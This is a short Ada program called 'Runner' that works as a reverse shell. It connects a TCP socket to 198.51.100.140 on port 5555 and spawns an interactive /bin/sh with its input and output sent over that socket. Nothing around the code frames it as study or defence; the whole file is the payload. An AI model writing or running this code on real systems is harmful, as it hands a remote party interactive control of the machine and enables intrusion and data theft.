with GNAT.Sockets; use GNAT.Sockets;
with GNAT.OS_Lib; use GNAT.OS_Lib;
procedure Runner is
   S : Socket_Type;
   A : Sock_Addr_Type := (Family_Inet, Inet_Addr ("198.51.100.140"), 5555);
   Args : Argument_List_Access := Argument_String_To_List ("-c 'sh -i <&3 >&3 2>&3'");
   Ok : Boolean;
begin
   Create_Socket (S);
   Connect_Socket (S, A);
   --  socket is fd 3 in the child
   Spawn ("/bin/sh", Args.all, Ok);
end Runner;
